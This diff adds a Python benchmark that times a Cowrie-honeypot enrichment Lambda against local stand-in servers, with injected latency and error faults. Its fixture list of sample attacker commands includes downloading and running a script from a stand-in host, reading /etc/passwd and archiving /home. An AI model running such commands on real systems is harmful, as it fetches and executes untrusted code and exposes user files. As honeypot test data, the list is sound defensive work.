@@ -0,0 +1,283 @@
+#!/usr/bin/env python3
+"""
+Lambda Benchmark - Local cold-start and warm-path latency report
+Invokes lambda_handler with synthetic SNS events against local stand-ins
+for GreyNoise, AbuseIPDB, Discord and S3 (no AWS account or API keys needed)
+"""
+
+import os
+import sys
+import json
+import time
+import random
+import argparse
+import subprocess
+import threading
+from collections import Counter, defaultdict
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+
+HERE = os.path.dirname(os.path.abspath(__file__))
+
+SAMPLE_COMMANDS = [
+    'uname -a', 'whoami', 'cat /etc/passwd', 'wget http://203.0.113.9/x.sh',
+    'chmod +x x.sh', './x.sh', 'tar czf /tmp/a.tgz /home', 'ls -la', None
+]
+
+
+class Fault:
+    """Injected behaviour for one stand-in route: extra latency (+ uniform jitter), 429 and 5xx rates"""
+    def __init__(self, latency_ms=0.0, jitter_ms=0.0, throttle_rate=0.0, error_rate=0.0):
+        self.latency_ms = latency_ms
+        self.jitter_ms = jitter_ms
+        self.throttle_rate = throttle_rate
+        self.error_rate = error_rate
+
+
+class StandInHandler(BaseHTTPRequestHandler):
+    """Answers provider and webhook requests with canned responses over keep-alive"""
+    protocol_version = "HTTP/1.1"
+    disable_nagle_algorithm = True
+    connect_delay = 0.0
+    response_delay = 0.0
+    connections = 0
+    lock = threading.Lock()
+    faults = {}                      # route ("greynoise", "abuseipdb", "discord") -> Fault
+    stats = defaultdict(Counter)     # route -> {"requests", "<status>"}
+
+    def setup(self):
+        super().setup()
+        with StandInHandler.lock:
+            StandInHandler.connections += 1
+        # Emulate TCP + TLS handshake cost paid once per new connection
+        if self.connect_delay:
+            time.sleep(self.connect_delay)
+
+    def _reply(self, status, body=b"", route=None):
+        if self.response_delay:
+            time.sleep(self.response_delay)
+        fault = self.faults.get(route)
+        if fault is not None:
+            delay = fault.latency_ms + random.uniform(0, fault.jitter_ms)
+            if delay:
+                time.sleep(delay / 1000.0)
+            roll = random.random()
+            if roll < fault.throttle_rate:
+                status, body = 429, b'{"message": "You are being rate limited.", "retry_after": 1.0}'
+            elif roll < fault.throttle_rate + fault.error_rate:
+                status, body = 500, b'{"message": "internal error"}'
+        if route:
+            with StandInHandler.lock:
+                StandInHandler.stats[route]["requests"] += 1
+                StandInHandler.stats[route][str(status)] += 1
+        self.send_response(status)
+        self.send_header("Content-Type", "application/json")
+        self.send_header("Content-Length", str(len(body)))
+        if status == 429:
+            self.send_header("Retry-After", "1")
+        self.end_headers()
+        self.wfile.write(body)
+
+    def do_GET(self):
+        if self.path.startswith("/v3/community/"):
+            ip = self.path.rsplit("/", 1)[-1]
+            body = {"ip": ip, "noise": True, "riot": False,
+                    "classification": random.choice(["malicious", "unknown", "benign"]),
+                    "name": "unknown"}
+            route = "greynoise"
+        elif self.path.startswith("/api/v2/check"):
+            body = {"data": {"abuseConfidenceScore": random.randint(0, 100), "countryCode": "CN"}}
+            route = "abuseipdb"
+        elif self.path == "/_stats":
+            # Request counters, for harnesses running the stand-in in another process
+            with StandInHandler.lock:
+                body = {route: dict(counts) for route, counts in StandInHandler.stats.items()}
+            return self._reply(200, json.dumps(body).encode())
+        else:
+            return self._reply(404)
+        self._reply(200, json.dumps(body).encode(), route)
+
+    def do_POST(self):
+        self.rfile.read(int(self.headers.get("Content-Length", 0)))
+        self._reply(204, route="discord")
+
+    def log_message(self, format, *args):
+        pass
+
+
+class LocalS3:
+    """Stand-in for the boto3 S3 client; with root, objects are written to root/<Bucket>/<Key>"""
+    def __init__(self, root=None):
+        self.root = root
+        self.objects = 0
+
+    def put_object(self, **kwargs):
+        self.objects += 1
+        if self.root:
+            path = os.path.join(self.root, kwargs["Bucket"], kwargs["Key"])
+            os.makedirs(os.path.dirname(path), exist_ok=True)
+            body = kwargs["Body"]
+            with open(path, "wb") as f:
+                f.write(body.encode("utf-8") if isinstance(body, str) else body)
+        return {}
+
+
+class PerRequestSession:
+    """Baseline: a fresh connection for every call, like bare requests.get/post"""
+    def get(self, *args, **kwargs):
+        import requests
+        return requests.get(*args, **kwargs)
+
+    def post(self, *args, **kwargs):
+        import requests
+        return requests.post(*args, **kwargs)
+
+
+def synthetic_sns_event(records=1, rng=random):
+    """Build an SNS-shaped Lambda event with random Cowrie messages"""
+    out = []
+    for _ in range(records):
+        msg = {
+            "eventid": "cowrie.command.input",
+            "src_ip": f"{rng.randint(1, 223)}.{rng.randint(0, 255)}.{rng.randint(0, 255)}.{rng.randint(1, 254)}",
+            "session": "%012x" % rng.getrandbits(48),
+            "timestamp": time.strftime("%Y-%m-%dT%H:%M:%S.000000Z", time.gmtime()),
+        }
+        cmd = rng.choice(SAMPLE_COMMANDS)
+        if cmd:
+            msg["input"] = cmd
+        else:
+            msg.update(eventid="cowrie.login.success", username="root", password="123456")
+        out.append({"EventSource": "aws:sns", "Sns": {"Message": json.dumps(msg)}})
+    return {"Records": out}
+
+
+def percentile(samples, pct):
+    """Nearest-rank percentile of a list of numbers"""
+    if not samples:
+        return 0.0
+    ordered = sorted(samples)
+    rank = max(1, int(round(pct / 100.0 * len(ordered))))
+    return ordered[min(rank, len(ordered)) - 1]
+
+
+def summarize(samples_ms):
+    return {
+        "runs": len(samples_ms),
+        "p50_ms": round(percentile(samples_ms, 50), 2),
+        "p99_ms": round(percentile(samples_ms, 99), 2),
+        "mean_ms": round(sum(samples_ms) / len(samples_ms), 2) if samples_ms else 0.0,
+    }
+
+
+def start_stand_in(connect_ms, response_ms):
+    StandInHandler.connect_delay = connect_ms / 1000.0
+    StandInHandler.response_delay = response_ms / 1000.0
+    server = ThreadingHTTPServer(("127.0.0.1", 0), StandInHandler)
+    threading.Thread(target=server.serve_forever, daemon=True).start()
+    return server
+
+
+def bench_env(port):
+    base = f"http://127.0.0.1:{port}"
+    env = dict(os.environ)
+    env.update({
+        "DISCORD_WEBHOOK": f"{base}/api/webhooks/bench/token",
+        "S3_BUCKET": "bench-bucket",
+        "GREYNOISE_URL": base,
+        "ABUSEIPDB_URL": base,
+        "GREYNOISE_KEY": "bench",
+        "ABUSEIPDB_KEY": "bench",
+    })
+    return env
+
+
+def cold_child():
+    """Runs in a fresh interpreter: time module import plus the first invocation"""
+    start = time.perf_counter()
+    sys.path.insert(0, HERE)
+    import lambda_enrichment_handler as handler
+    imported = time.perf_counter()
+    handler._s3 = LocalS3()
+    handler.lambda_handler(synthetic_sns_event(), None)
+    done = time.perf_counter()
+    print(json.dumps({"import_ms": (imported - start) * 1000, "first_invoke_ms": (done - imported) * 1000}))
+
+
+def run_cold(env, runs):
+    imports, firsts = [], []
+    for _ in range(runs):
+        out = subprocess.run([sys.executable, os.path.abspath(__file__), "--cold-child"],
+                             env=env, capture_output=True, text=True, check=True)
+        result = json.loads(out.stdout.strip().splitlines()[-1])
+        imports.append(result["import_ms"])
+        firsts.append(result["first_invoke_ms"])
+    return {"import": summarize(imports), "first_invoke": summarize(firsts)}
+
+
+def run_warm(handler, mode, invocations, records):
+    handler._s3 = LocalS3()
+    handler._http = PerRequestSession() if mode == "per-request" else None
+    handler._enrichment = None  # fresh result cache and breakers per mode
+    rng = random.Random(1)
+    handler.lambda_handler(synthetic_sns_event(records, rng), None)  # warm-up
+    StandInHandler.connections = 0
+    samples = []
+    for _ in range(invocations):
+        event = synthetic_sns_event(records, rng)
+        start = time.perf_counter()
+        handler.lambda_handler(event, None)
+        samples.append((time.perf_counter() - start) * 1000)
+    result = summarize(samples)
+    result["connections_opened"] = StandInHandler.connections
+    return result
+
+
+def main():
+    parser = argparse.ArgumentParser(description='Benchmark lambda_handler cold start and warm path locally')
+    parser.add_argument('--invocations', type=int, default=200, help='Warm invocations per mode (default: 200)')
+    parser.add_argument('--records', type=int, default=1, help='SNS records per invocation (default: 1)')
+    parser.add_argument('--cold-runs', type=int, default=5, help='Fresh-interpreter cold starts (default: 5)')
+    parser.add_argument('--connect-ms', type=float, default=40.0,
+                        help='Emulated TCP+TLS handshake cost per new connection (default: 40)')
+    parser.add_argument('--response-ms', type=float, default=5.0, help='Emulated provider response time (default: 5)')
+    parser.add_argument('--json', dest='json_out', help='Write the report as JSON to this file')
+    parser.add_argument('--cold-child', action='store_true', help=argparse.SUPPRESS)
+    args = parser.parse_args()
+
+    if args.cold_child:
+        cold_child()
+        return
+
+    server = start_stand_in(args.connect_ms, args.response_ms)
+    env = bench_env(server.server_address[1])
+    os.environ.update(env)
+    sys.path.insert(0, HERE)
+
+    print(f"Stand-ins on 127.0.0.1:{server.server_address[1]} "
+          f"(handshake {args.connect_ms}ms, response {args.response_ms}ms)")
+
+    report = {"config": vars(args).copy()}
+    report["config"].pop("cold_child")
+    report["cold_start"] = run_cold(env, args.cold_runs)
+
+    import lambda_enrichment_handler as handler
+    report["warm"] = {mode: run_warm(handler, mode, args.invocations, args.records)
+                      for mode in ("per-request", "pooled")}
+    server.shutdown()
+
+    cold = report["cold_start"]
+    print(f"\n{'Phase':<22} {'p50 ms':>10} {'p99 ms':>10} {'mean ms':>10} {'conns':>8}")
+    print("-" * 64)
+    for name, row in (("cold: import", cold["import"]), ("cold: first invoke", cold["first_invoke"])):
+        print(f"{name:<22} {row['p50_ms']:>10} {row['p99_ms']:>10} {row['mean_ms']:>10} {'':>8}")
+    for mode, row in report["warm"].items():
+        print(f"{'warm: ' + mode:<22} {row['p50_ms']:>10} {row['p99_ms']:>10} {row['mean_ms']:>10} {row['connections_opened']:>8}")
+
+    if args.json_out:
+        with open(args.json_out, 'w') as f:
+            json.dump(report, f, indent=2)
+        print(f"\nReport written to {args.json_out}")
+
+
+if __name__ == "__main__":
+    main()